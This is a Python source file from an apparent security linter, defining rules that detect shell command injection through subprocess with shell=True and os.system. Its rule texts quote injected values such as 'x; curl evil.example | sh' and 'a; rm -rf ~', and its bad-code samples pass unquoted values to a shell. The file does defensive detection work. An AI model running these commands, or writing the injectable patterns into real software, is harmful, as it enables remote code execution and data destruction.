"""Commands that a shell reads: a shell takes spaces, quotes, `;`, `|` and `$` in a text for instructions."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import libcst as cst

from whysafe.analysis.detectors import calls, nodes
from whysafe.analysis.finding import Confidence, Rank, Severity
from whysafe.analysis.rule import Evidence, Rule, Verdict
from whysafe.analysis.standing import Use
from whysafe.rules.process_arguments import (
    SUBPROCESS,
    argv,
    command_argument,
    constant_texts,
    list_repair,
    run_repair,
    shell_command,
    text_repair,
    uses_shell,
    words_without_shell,
)
from whysafe.rules.process_text import holes, is_constant, is_sanitized, shown
from whysafe.rules.types import OWN_INPUT
from whysafe.semantics.calls import callees

if TYPE_CHECKING:
    from collections.abc import Iterator

    from whysafe.analysis.detectors import Place
    from whysafe.analysis.glance import Glance
    from whysafe.analysis.rule import Answer
    from whysafe.semantics.calls import Call, Expression

_SUBPROCESS_DOCS = "https://docs.python.org/3/library/subprocess.html#security-considerations"
_CWE_78 = "https://cwe.mitre.org/data/definitions/78.html"
_OWASP = "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html"


def _built_elsewhere(command: Expression) -> tuple[Evidence, ...]:
    """Where a command is put together, when that is not in the call itself."""
    return tuple(
        Evidence(origin.node, origin.scope, "The command is put together here.")
        for origin in command.origins()
        if origin.node is not command.node and not is_constant(origin)
    )


def _computed(command: Expression, beginning: str, certainty: Confidence = Confidence.HIGH) -> Verdict:
    """A verdict on a command that is not constant: one step down when everything in it is quoted."""
    if is_sanitized(command):
        message = f"{beginning} a command in which each inserted value is quoted or a number."
        return Verdict(message=message, severity=Severity.WARNING, confidence=certainty)
    found = holes(command)
    whole = not found or found[0].node is command.node
    what = shown(command.node) if whole else f"a command that contains {shown(found[0].node)}"
    return Verdict(message=f"{beginning} {what}.", confidence=certainty, evidence=_built_elsewhere(command))


# --- subprocess with a shell -----------------------------------------------------------------------------------------


def _runs_computed_text(call: Call) -> Answer:
    command = command_argument(call)
    certainty = uses_shell(call)
    if certainty is None:
        return None if command is None else _asks_for_a_shell(command)
    if command is None:
        if not call.open_ended:
            return None
        message = f"`{call.name}` is told to use a shell, whatever command it is given later."
        return Verdict(message=message, confidence=certainty)
    if is_constant(command):
        return None
    if isinstance(command.node, (cst.List, cst.Tuple)):
        message = (
            f"`{call.name}` is given a list together with a shell, which does not keep the arguments apart everywhere."
        )
        return Verdict(message=message, confidence=certainty, repairs=list_repair(call))
    return _computed(command, f"`{call.name}` has a shell run", certainty)


def _asks_for_a_shell(command: Expression) -> Answer:
    """`["sh", "-c", text]`: a shell without `shell=True`."""
    words = argv(command)
    text = shell_command(words)
    if text is None or is_constant(text):
        return None
    return _computed(text, "The shell that is started here runs")


SUBPROCESS_SHELL_TRUE = Rule(
    name="subprocess-shell-true",
    family="process",
    title="Dynamic command run through the shell",
    message="A command that is put together at run time is run by a shell.",
    why=(
        "With `shell=True` the command is one text that a shell takes apart. Characters such as `;`, `|`, `$` "
        "and a line break in an inserted value start further commands, so data turns into instructions."
    ),
    abuse=(
        "Somebody who chooses a file name, branch or host that ends up in the text writes `x; curl evil.example "
        "| sh` and has that run with the rights of this program."
    ),
    fix="Pass a list, one element for each argument, and leave `shell=True` out. Where a shell is needed, put "
    "`shlex.quote()` around each inserted value.",
    ask="Where does each value in this command come from, and who could put a `;` or `$(...)` into it?",
    cwe=(78,),
    severity=Severity.ERROR,
    by_program_type=OWN_INPUT,
    aliases=("B602", "S602", *SUBPROCESS),
    detect=calls(*SUBPROCESS, when=_runs_computed_text),
    bad=(
        'import subprocess\n\n\ndef log(branch):\n    subprocess.run(f"git log {branch}", shell=True)',
        'import subprocess as sp\n\n\ndef ping(host):\n    return sp.check_output("ping -c 1 " + host, shell=1)',
        'from subprocess import Popen\n\n\ndef unpack(name):\n    return Popen(["unzip", name], shell=True)',
        "import functools\nimport subprocess\n\nrun_line = functools.partial(subprocess.run, shell=True)",
        'import subprocess\n\n\ndef count(pattern):\n    subprocess.run(["/bin/sh", "-c", f"ls | grep -c {pattern}"])',
    ),
    good=(
        (
            "import subprocess\n\n\ndef log(branch):\n"
            '    subprocess.run(["git", "log", "--end-of-options", branch], check=True)'
        ),
        'import subprocess\n\nsubprocess.run(["git", "status"], shell=False)',
        'import subprocess\n\n\ndef count(name):\n    subprocess.run(["/bin/sh", "-c", \'wc -l "$1"\', "sh", name])',
    ),
    references=(_SUBPROCESS_DOCS, _OWASP, _CWE_78),
)


def _runs_constant_text(call: Call) -> Answer:
    command = command_argument(call)
    certainty = uses_shell(call)
    if certainty is None or command is None or not is_constant(command):
        return None
    texts = constant_texts(command)
    if _is_list(command):
        message = f"`{call.name}` is given a list together with a shell: on POSIX only its first item is the command."
        return Verdict(message=message, confidence=certainty, repairs=list_repair(call))
    if texts and all(words_without_shell(text) is not None for text in texts):
        message = f"`{call.name}` has a shell run a constant command that needs none."
        return Verdict(message=message, confidence=certainty, repairs=text_repair(call))
    return Verdict(message=f"`{call.name}` has a shell run a constant command.", confidence=certainty)


def _is_list(command: Expression) -> bool:
    written = isinstance(command.node, (cst.List, cst.Tuple))
    return written or any(isinstance(value, (list, tuple)) for value in command.constants)


SUBPROCESS_SHELL_TRUE_CONSTANT = Rule(
    name="subprocess-shell-true-constant",
    family="process",
    title="Constant command run through the shell",
    message="A constant command is run by a shell.",
    why=(
        "Nobody can put anything into a constant command, but the shell still decides by its environment what "
        "the command means: `PATH`, aliases of the system, the current folder. And the next change of this line "
        "may insert a value."
    ),
    abuse="Somebody who can set the environment or the `PATH` of this program has another program started under the "
    "expected name; the day the command takes a value, that value can bring commands along.",
    fix=(
        "Pass a list and leave `shell=True` out. Pipes and redirections can be had with `stdout=`, `stdin=` and "
        "`pathlib`."
    ),
    ask="Is the shell needed for this command, and will it stay free of values from outside?",
    cwe=(78,),
    severity=Severity.INFORMATION,
    rank=Rank.CONSTANT,
    aliases=("B602", "S602", *SUBPROCESS),
    detect=calls(*SUBPROCESS, when=_runs_constant_text),
    bad=(
        'import subprocess\n\nsubprocess.run("/usr/bin/make clean", shell=True)',
        'import subprocess\n\nLIST = "/bin/ls | /usr/bin/wc -l"\noutput = subprocess.check_output(LIST, shell=True)',
        'import subprocess\n\nsubprocess.call(["/bin/ls", "-l"], shell=True)',
    ),
    good=(
        'import subprocess\n\nsubprocess.run(["/usr/bin/make", "clean"])',
        'import subprocess\n\nsubprocess.run("/usr/bin/make", shell=False)',
    ),
    references=(_SUBPROCESS_DOCS, _CWE_78),
)


# --- shell=True elsewhere --------------------------------------------------------------------------------------------

_PASSED_ON = frozenset({"kwargs", "kwds"})
_COLLECTS_ARGUMENTS = frozenset({"builtins.dict", "unittest.mock.call"})


def _passes_shell_on(place: Place) -> Answer:
    node = place.node
    if not isinstance(node, cst.Call):
        return None
    if not any(_is_switched_on(place.expression(value)) for value in _written_for_shell(node, place)):
        return None
    names = {call.name for call in callees(place.seen, place.resolver)}
    if not names.isdisjoint(SUBPROCESS) or not names.isdisjoint(_COLLECTS_ARGUMENTS) or _asserts(node.func):
        return None
    given = [place.expression(arg.value) for arg in node.args if arg.keyword is None and not arg.star]
    constant = bool(given) and all(is_constant(argument) for argument in given)
    return Verdict(
        message=f"{shown(node.func)} is told to use a shell.",
        severity=Severity.INFORMATION if constant else None,
        confidence=Confidence.MEDIUM,
    )


def _written_for_shell(node: cst.Call, place: Place) -> Iterator[cst.BaseExpression]:
    """The values of `shell=...`, and of `kwargs={"shell": ...}` as `threading.Thread` takes it."""
    for arg in node.args:
        name = arg.keyword.value if arg.keyword is not None else ""
        if name == "shell":
            yield arg.value
        elif name in _PASSED_ON and isinstance(arg.value, cst.Dict):
            for element in arg.value.elements:
                if isinstance(element, cst.DictElement) and place.expression(element.key).text == "shell":
                    yield element.value


_SWITCHES_SHELL = re.compile(r"[(,][ \t\f]*shell[ \t\f]*=(?!=)(?![ \t\f(]*(?:False|None|0)\b)")


def _may_switch_shell_on(glance: Glance, _word: str) -> bool:
    """By a keyword, or by the key of a dict."""
    return "shell" in glance.strings or _SWITCHES_SHELL.search(glance.code) is not None


def _is_switched_on(shell: Expression) -> bool:
    """True or a number other than 0; a text is rather the path of a user's login shell."""
    constant = shell.constant
    return isinstance(constant, int) and bool(constant)


def _asserts(func: cst.BaseExpression) -> bool:
    """`mock.assert_called_with(..., shell=True)` says what happened elsewhere."""
    return isinstance(func, cst.Attribute) and func.attr.value.startswith("assert_")


CALL_SHELL_TRUE_OTHER = Rule(
    name="call-shell-true-other",
    family="process",
    title="shell=True passed to an unknown function",
    message="A function is told to use a shell.",
    why=(
        "A function that takes `shell=True` usually hands its command to `subprocess` with a shell, which takes "
        "`;`, `|` and `$` in it for instructions. The call looks harmless because the start of the process is "
        "out of sight."
    ),
    abuse="Whoever can choose a part of the command that is passed here can append commands of their own.",
    fix="Call the function without `shell=True` and give it a list of arguments, or quote each inserted value with "
    "`shlex.quote()`.",
    ask="What does the called function do with `shell`, and who can choose a part of the command?",
    cwe=(78,),
    severity=Severity.WARNING,
    aliases=("B604", "S604"),
    detect=nodes(cst.Call, when=_passes_shell_on, words=("shell",), use=Use.WRITTEN, sign=_may_switch_shell_on),
    bad=(
        "from tools import execute\n\n\ndef build(target):\n    execute(target, shell=True)",
        "import subprocess\n\n\ndef start(pool, line):\n    pool.submit(subprocess.run, line, shell=True)",
    ),
    good=(
        "from tools import execute\n\n\ndef build(target):\n    execute(target, shell=False)",
        'def add_user(accounts, name):\n    accounts.create(name, shell="/bin/bash")',
        'def test_build(execute):\n    execute.assert_called_once_with("make", shell=True)',
    ),
    references=(_SUBPROCESS_DOCS, _CWE_78),
)


# --- functions that always use a shell -------------------------------------------------------------------------------

OS_SHELL = (
    "os.popen",
    "os.popen2",
    "os.popen3",
    "os.popen4",
    "os.system",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
    "popen2.Popen3",
    "popen2.Popen4",
    "popen2.popen2",
    "popen2.popen3",
    "popen2.popen4",
    "six.moves.getoutput",
)


def shell_text(call: Call) -> Expression | None:
    """The command of a function that always uses a shell."""
    return call.argument("command", 0) or call.argument("cmd")


def _hands_to_shell(call: Call) -> Answer:
    command = shell_text(call)
    if command is None:
        if not call.open_ended:
            return None
        return Verdict(message=f"`{call.name}` hands whatever it is given to the system shell.")
    if is_constant(command):
        message = f"`{call.name}` has the system shell run a constant command."
        return Verdict(message=message, severity=Severity.INFORMATION, repairs=run_repair(call))
    return _computed(command, f"`{call.name}` has the system shell run")


def _hands_on(reference: Expression) -> Answer:
    message = (
        f"{shown(reference.node)} is passed on here: it hands each text that it is called with to the system shell."
    )
    return Verdict(message=message)


OS_SYSTEM_SHELL = Rule(
    name="os-system-shell",
    family="process",
    title="Command string handed to the system shell",
    message="A command is handed to the system shell as one text.",
    why=(
        "This function has no form without a shell. The shell takes the text apart, so that `;`, `|`, `$` or a "
        "line break in an inserted value starts further commands."
    ),
    abuse=(
        "A user who may name a file calls it `a; rm -rf ~` or `$(curl evil.example | sh)`, and the shell carries "
        "that out."
    ),
    fix="Use `subprocess.run([...], check=True)` with one list element for each argument; for the output add "
    "`capture_output=True, text=True`.",
    ask="Where does each value in this command come from, and who could put a `;` or `$(...)` into it?",
    cwe=(78,),
    severity=Severity.ERROR,
    by_program_type=OWN_INPUT,
    aliases=("B605", "S605", "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"),
    detect=calls(*OS_SHELL, when=_hands_to_shell, reference=_hands_on),
    bad=(
        'import os\n\n\ndef remove(name):\n    os.system("rm " + name)',
        "import os\n\n\ndef lines_of(command):\n    return os.popen(command).readlines()",
        'import subprocess\n\n\ndef size(path):\n    return subprocess.getoutput(f"/usr/bin/du -s {path}")',
        (
            "import os\nimport threading\n\n\ndef start(line):\n"
            "    threading.Thread(target=os.system, args=(line,)).start()"
        ),
        'import os\n\nos.system("/usr/bin/sync")',
    ),
    good=(
        "import os\n\n\ndef remove(name):\n    os.remove(name)",
        'import subprocess\n\n\ndef remove(name):\n    subprocess.run(["rm", "--", name], check=True)',
        "import platform\n\nname = platform.system()",
    ),
    references=("https://docs.python.org/3/library/os.html#os.system", _SUBPROCESS_DOCS, _OWASP, _CWE_78),
)


RULES: tuple[Rule, ...] = (
    SUBPROCESS_SHELL_TRUE,
    SUBPROCESS_SHELL_TRUE_CONSTANT,
    CALL_SHELL_TRUE_OTHER,
    OS_SYSTEM_SHELL,
)
